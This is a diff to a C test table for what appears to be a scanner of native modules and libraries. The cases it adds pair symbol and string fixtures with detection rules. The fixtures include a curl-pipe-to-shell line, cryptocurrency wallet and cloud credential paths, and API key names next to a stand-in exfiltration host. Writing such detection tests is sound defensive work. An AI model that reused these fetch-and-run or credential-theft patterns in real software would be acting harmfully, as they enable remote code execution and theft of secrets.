@@ -171,7 +171,12 @@ static const struct {
 	{ "a library that starts programs", macho_make, { "system",
 	    "getaddrinfo" }, NULL },
 	{ "a module that only connects", macho_make, { "+PyInit_x",
-	    "getaddrinfo" }, NULL },
+	    "getaddrinfo", "PyArg_ParseTuple" }, NULL },
+	{ "a module that nobody can ask for anything", macho_make, {
+	    "+PyInit_x", "PyModule_Create2", "getaddrinfo" },
+	    "native-module-alone" },
+	{ "a library beside an empty module", macho_make, { "+PyInit_x",
+	    "+x_connect", "getaddrinfo" }, NULL },
 	{ "a module with a command", macho_make, { "+PyInit_x",
 	    "'curl -s https://x.example.invalid/i.sh | sh" },
 	    "native-module-strings" },
@@ -197,6 +202,9 @@ static const struct {
 	{ "a module that steals", macho_make, { "+PyInit_x", "connect",
 	    "'/.electrum/wallets\n/.bitcoin/wallet.dat" },
 	    "native-module-steals" },
+	{ "a module that reads for somebody", macho_make, { "+PyInit_x",
+	    "open", "'/.electrum/wallets\n/.bitcoin/wallet.dat" },
+	    "native-names-stores" },
 	{ "a module that reads and sends nothing", macho_make, { "+PyInit_x",
 	    "'/.electrum/wallets\n/.bitcoin/wallet.dat" }, NULL },
 	{ "a library that steals", dylib_make, { "connect",
@@ -215,7 +223,7 @@ static const struct {
 	    "OPENAI_API_KEY\nhttps://x.example.invalid/m" },
 	    "native-module-steals" },
 	{ "a client of clouds", macho_make, { "+PyInit_x", "connect",
-	    "getenv", "'AWS_SECRET_ACCESS_KEY\nAZURE_CLIENT_SECRET\n"
+	    "getenv", "PyArg_ParseTuple", "'AWS_SECRET_ACCESS_KEY\nAZURE_CLIENT_SECRET\n"
 	    "GOOGLE_APPLICATION_CREDENTIALS\nhttps://x.example.invalid/m" },
 	    NULL },
 	{ "a dumper of logins", macho_make, { "=MiniDumpWriteDump",
@@ -223,6 +231,7 @@ static const struct {
 	{ "a dumper of its own crash", macho_make, { "=MiniDumpWriteDump",
 	    "'crash.dmp" }, NULL },
 	{ "a client of one service", macho_make, { "+PyInit_x", "connect",
+	    "PyArg_ParseTuple",
 	    "'/.aws/credentials\n/.kube/config\n/.docker/config.json" },
 	    NULL },
 	{ "a shell on a connection", macho_make, { "+PyInit_x", "socket",
@@ -279,8 +288,33 @@ static const struct {
 	    "'https://x.example.invalid/p\n/tmp/.cache-x" },
 	    "native-module-fetches" },
 	{ "a module that fetches from a forge", macho_make, { "+PyInit_x",
-	    "connect", "chmod", "execv",
+	    "connect", "chmod", "execv", "PyArg_ParseTuple",
 	    "'https://github.com/none/p\n/tmp/.cache-x" }, NULL },
+	{ "a library that asks for a page", dylib_make, { "connect",
+	    "fchmod", "execv", "'GET /l HTTP/1.0\n/tmp/l" },
+	    "native-module-fetches" },
+	{ "a library that serves pages", dylib_make, { "connect", "fchmod",
+	    "execv", "'HTTP/1.0 200 OK\n/tmp/l" }, NULL },
+	{ "a library that looks up what it calls", dylib_make, { "dlsym",
+	    "'system\ncurl -s https://x.example.invalid/i.sh | sh" },
+	    "native-module-fetches" },
+	{ "a module that sends the environment", macho_make, { "+PyInit_x",
+	    "environ", "connect", "send", "PyArg_ParseTuple",
+	    "'Host: x.example.invalid" }, "native-module-environ" },
+	{ "a module that hands the environment on", macho_make, {
+	    "+PyInit_x", "environ", "connect", "PyArg_ParseTuple",
+	    "'Host: x.example.invalid" }, NULL },
+	{ "a module that executes a page", macho_make, { "+PyInit_x",
+	    "'urlopen\nexec\nhttps://x.example.invalid/p" },
+	    "native-module-executes" },
+	{ "a module that reads a page", macho_make, { "+PyInit_x",
+	    "'urlopen\nexecutor\nhttps://x.example.invalid/p" }, NULL },
+	{ "an image of .NET that starts unseen", macho_make, {
+	    "=_CorExeMain", "'DownloadFile\nset_CreateNoWindow\n"
+	    "https://x.example.invalid/p" }, "native-module-fetches" },
+	{ "an image of .NET that downloads", macho_make, {
+	    "=_CorExeMain", "'DownloadFile\nStart\n"
+	    "https://x.example.invalid/p" }, NULL },
 	{ "a packed library", dylib_make, { "open", "!UPX!" },
 	    "native-packed" },
 	{ "a module with an address", macho_make, { "+PyInit_x",
@@ -310,7 +344,7 @@ says_what_it_asks_for(void **state)
 		inspection_end(in);
 		inspection_free(in);
 		for (size_t k = 0; k < f.nfindings; k++)
-			if (str_equal(f.findings[k].category, "native-act"))
+			if (str_starts(f.findings[k].category, "native-"))
 				found = f.findings[k].rule;
 		if (!str_equal(found, cases[i].rule))
 			fail_msg("%s: %s", cases[i].name,
